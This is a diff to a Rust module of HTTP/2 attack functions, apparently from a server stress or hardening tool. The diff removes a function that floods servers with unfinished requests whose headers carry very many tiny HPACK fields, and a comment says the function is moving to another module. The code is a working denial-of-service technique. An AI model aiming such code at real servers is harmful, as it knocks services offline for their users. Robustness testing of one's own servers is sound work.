@@ -1,17 +1,12 @@
 //! The attacks of one identity, each a function with its amount as an argument. All use valid frames; the others are in
-//! [`super::flood`].
+//! [`super::flood`], those with heads in [`super::heads`].
 
 use std::{collections::BTreeMap, net::SocketAddr, sync::Arc, time::Duration};
 
 use anyhow::Result;
 use tokio::{net::TcpStream, task::JoinSet, time::timeout};
 
-use super::{
-    Http2Peer, PeerBehaviour,
-    frame::{Frame, MAX_PAYLOAD, flag, kind},
-    hpack,
-    http2::head_of_post,
-};
+use super::{Http2Peer, PeerBehaviour, frame::MAX_PAYLOAD};
 use crate::raw::{Connection, Dialer};
 
 /// How long an attacker waits for a window from the server before it goes on without.
@@ -80,42 +75,6 @@ pub async fn unfinished_bodies(
         held.sent += sent;
     }
     Ok(held)
-}
-
-/// Sends heads of `fields` fields, and nothing else of their requests, on `streams` streams of each of `connections`
-/// connections. Each field but the first is one byte on the wire. `dialer` must offer `h2`.
-///
-/// # Errors
-/// If a connection does not come to be.
-pub async fn heads_of_many_fields(
-    dialer: &Dialer,
-    target: &str,
-    (connections, streams): (usize, usize),
-    fields: usize,
-) -> Result<Held> {
-    let connector = dialer.connector()?;
-    let block = [head_of_post(target), hpack::unfolding(1, fields)].concat();
-    // All are open before the first sends anything.
-    let mut peers = Vec::new();
-    for _ in 0..connections {
-        let connection = dialer.connect_with(&connector).await?;
-        peers.push(Http2Peer::over(connection, PeerBehaviour::GOOD).await?);
-    }
-    let mut attackers = JoinSet::new();
-    for mut peer in peers {
-        let mut heads = Vec::new();
-        for _ in 0..streams {
-            let stream = peer.new_stream();
-            let head = Frame::new(kind::HEADERS, flag::END_HEADERS, stream, block.as_slice());
-            heads.extend(head.encode());
-        }
-        attackers.spawn(async move {
-            // The server may read none of it, or end the connection.
-            timeout(STALL, peer.send_bytes(&heads)).await.ok();
-            peer
-        });
-    }
-    Ok(Held { http2: attackers.join_all().await, ..Held::default() })
 }
 
 async fn fill_streams(
